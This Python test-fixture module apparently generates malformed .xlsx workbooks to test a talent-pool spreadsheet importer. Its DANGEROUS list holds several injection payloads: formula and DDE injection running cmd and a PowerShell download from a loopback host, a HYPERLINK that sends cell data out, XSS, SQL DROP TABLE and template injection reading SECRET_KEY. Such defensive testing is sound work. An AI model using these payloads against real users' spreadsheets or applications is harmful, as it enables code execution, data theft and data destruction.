"""Workbooks that open well and hold cells which do not."""

from talent_pool.people.trials.hostile.packing import (
    DECLARED,
    HEADERS,
    LIST,
    MAIN,
    PEOPLE,
    letters,
    row_of,
    rows_of,
    sheet,
    workbook,
)

DANGEROUS = (
    "=HYPERLINK(&quot;http://127.0.0.1:9/?&quot;&amp;A1,&quot;点我&quot;)",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C powershell IEX(wget 127.0.0.1:9)'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;x&quot;)",
    "\t=1+1",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "'; DROP TABLE accounts_user; --",
    "{{ settings.SECRET_KEY }}",
)


def people_with(words) -> list[tuple[str, ...]]:
    return [
        (word, f"H9{number:04d}", f"198007{number:05d}", f"h{number}@example.com", word)
        for number, word in enumerate(words, 100)
    ]


def dangerous_texts(_random) -> bytes:
    return workbook(SHEET=sheet(rows_of([HEADERS, *people_with(DANGEROUS)])))


def formulas(_random) -> bytes:
    rows = "".join(
        f'<row r="{row}">'
        + "".join(
            f'<c r="{letters(place)}{row}" t="str"><f>{word.strip()[1:]}</f><v>{word}</v></c>' for place in range(5)
        )
        + "</row>"
        for row, word in enumerate(DANGEROUS, 2)
    )
    return workbook(SHEET=sheet(row_of(1, HEADERS) + rows))


def formulas_without_values(_random) -> bytes:
    cells = "".join(f'<c r="{letters(place)}2"><f>A1&amp;"x"</f></c>' for place in range(5))
    return workbook(SHEET=sheet(row_of(1, HEADERS) + f'<row r="2">{cells}</row>' + rows_of(PEOPLE, 3)))


def errors(_random) -> bytes:
    return with_errors("#REF!", "#NAME?", "#VALUE!", "#DIV/0!", "#N/A", "#NULL!", "#NUM!")


def errors_of_other_programs(_random) -> bytes:
    return with_errors("#GETTING_DATA", "#SPILL!", "#什么")


def with_errors(*kinds: str) -> bytes:
    rows = "".join(
        f'<row r="{row}">'
        + "".join(f'<c r="{letters(place)}{row}" t="e"><v>{kind}</v></c>' for place in range(5))
        + "</row>"
        for row, kind in enumerate(kinds, 5)
    )
    return workbook(SHEET=sheet(rows_of(LIST) + rows))


def numbers(_random) -> bytes:
    """Numbers that are too large, too small, or none, with and without the form of a day."""
    values = ("1e308", "-1e308", "1e999", "NaN", "-0", "99999999", "-1", "0", "60", "2958466", "1e-320", "0x10", "١٢٣")
    forms = "".join(f'<xf numFmtId="{form}"/>' for form in (0, 14, 46))
    styles = f'{DECLARED}<styleSheet xmlns="{MAIN}"><cellXfs>{forms}</cellXfs></styleSheet>'
    rows = "".join(
        f'<row r="{row}">'
        + "".join(f'<c r="{letters(place)}{row}" s="{place % 3}"><v>{value}</v></c>' for place in range(5))
        + "</row>"
        for row, value in enumerate(values, 5)
    )
    return workbook(SHEET=sheet(rows_of(LIST) + rows), STYLES=styles)


def one_bad_number(_random) -> bytes:
    return workbook(SHEET=sheet(rows_of(LIST) + '<row r="5"><c r="A5"><v>沈</v></c></row>'))


def days_written_out(_random) -> bytes:
    days = ("2026-13-45T99:99:99", "0000-00-00", "99999-01-01", "-0001-01-01T00:00:00Z", "")
    rows = "".join(f'<row r="{row}"><c r="A{row}" t="d"><v>{day}</v></c></row>' for row, day in enumerate(days, 5))
    return workbook(SHEET=sheet(rows_of(LIST) + rows))


def impossible_addresses(_random) -> bytes:
    cells = "".join(
        f'<c r="{place}" t="str"><v>x</v></c>' for place in ("A0", "ZZZZZZZZZZ1", "A99999999999", "1A", "", "你1")
    )
    return workbook(SHEET=sheet(rows_of(LIST) + f'<row r="5">{cells}</row>'))


def impossible_rows(_random) -> bytes:
    rows = "".join(
        f'<row r="{number}"><c t="str"><v>x</v></c></row>' for number in ("0", "-1", "99999999999", "", "一")
    )
    return workbook(SHEET=sheet(rows_of(LIST) + rows))


def backwards(_random) -> bytes:
    rows = [row_of(number, texts) for number, texts in enumerate(LIST, 1)]
    return workbook(SHEET=sheet("".join(reversed(rows)) + "".join(rows)))


def nothing_letters(_random) -> bytes:
    """Signs that a database or a page may not hold: zero, controls, halves of letters."""
    words = (
        "张_x0000_三",
        "李&#0;四",
        "王_xD800_五",
        "赵_xFFFF_六",
        "钱&#1;七",
        "孙&#x202E;八",
        "周&#x200B;九",
        "a\u0300" * 500,
    )
    return workbook(SHEET=sheet(rows_of([HEADERS, *people_with(words)])))


def escaped_nothing_letters(_random) -> bytes:
    words = (
        "张_x0000_三",
        "王_xD800_五",
        "赵_xFFFF_六",
        "孙&#x202E;八",
        "周&#x200B;九",
        "吴_x000A_十",
        "a\u0300" * 500,
    )
    return workbook(SHEET=sheet(rows_of([HEADERS, *people_with(words)])))


def header_only(_random) -> bytes:
    return workbook(SHEET=sheet(row_of(1, HEADERS)))


def header_again_and_again(_random) -> bytes:
    return workbook(SHEET=sheet(rows_of([HEADERS] * 3_000)))


def headers_all_the_same(_random) -> bytes:
    return workbook(SHEET=sheet(rows_of([["姓名", "手机号"] * 4_000, *([*PEOPLE[0]] * 2 for _ in range(10))])))


def long_headers(_random) -> bytes:
    return workbook(SHEET=sheet(rows_of([[*HEADERS, *("头" * 5_000 + str(place) for place in range(50))], *PEOPLE])))


def everybody_at_fault(_random) -> bytes:
    """Twenty thousand rows, each with the same phone and a day that does not exist."""
    rows = ((f"人{number}", "", "19800700001", "不是邮箱", "部" * 300) for number in range(20_000))
    return workbook(SHEET=sheet(rows_of([HEADERS, *rows])))


FILES = {
    "危险的文字.xlsx": dangerous_texts,
    "公式.xlsx": formulas,
    "没有值的公式.xlsx": formulas_without_values,
    "错误值.xlsx": errors,
    "没见过的错误值.xlsx": errors_of_other_programs,
    "奇怪的数.xlsx": numbers,
    "不是数的数.xlsx": one_bad_number,
    "不存在的日子.xlsx": days_written_out,
    "不存在的格.xlsx": impossible_addresses,
    "不存在的行.xlsx": impossible_rows,
    "倒着写.xlsx": backwards,
    "零与控制符.xlsx": nothing_letters,
    "转义的零.xlsx": escaped_nothing_letters,
    "只有表头.xlsx": header_only,
    "三千个表头.xlsx": header_again_and_again,
    "表头全相同.xlsx": headers_all_the_same,
    "很长的表头.xlsx": long_headers,
    "两万行全错.xlsx": everybody_at_fault,
}
